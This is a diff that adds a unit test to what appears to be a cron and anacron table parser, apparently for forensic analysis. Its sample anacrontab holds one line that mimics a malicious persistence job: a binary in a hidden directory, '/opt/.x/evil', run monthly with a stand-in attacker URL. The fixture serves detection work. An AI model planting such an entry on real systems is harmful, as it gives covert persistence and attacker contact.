@@ -39,6 +39,22 @@ def test_a_users_table_is_named_by_its_user():
     assert (Kind.PATH, "/opt/x/run") in {(v.kind, v.text) for v in second.values}
 
 
+def test_anacrons_table_has_days_a_delay_and_a_name():
+    body = (
+        b"SHELL=/bin/sh\nSTART_HOURS_RANGE=3-22\n#period in days   delay in minutes   job-identifier   command\n"
+        b"1\t5\tcron.daily\t\tnice run-parts /etc/cron.daily\n@monthly 45 upd /opt/.x/evil http://evil.example/\n"
+    )
+    assert reader_for(body, "x/etc/anacrontab").name == "cron"
+    first, second = named(body, "x/etc/anacrontab")
+    assert (first.event["when"], first.event["job"], first.event["command"]) == (
+        "1\t5",
+        "cron.daily",
+        "nice run-parts /etc/cron.daily",
+    )
+    assert "user" not in first.event and "START_HOURS_RANGE" in first.event["settings"]
+    assert (Kind.PATH, "/opt/.x/evil") in {(v.kind, v.text) for v in second.values}
+
+
 def test_the_place_is_not_needed_but_the_lines_are():
     assert reader_for(SYSTEM, "saved.txt").name == "cron"
     assert READER.accepts(b"1 2 3 4 5 numbers\n2 3 4 5 6 more\n", "table.txt") == 0
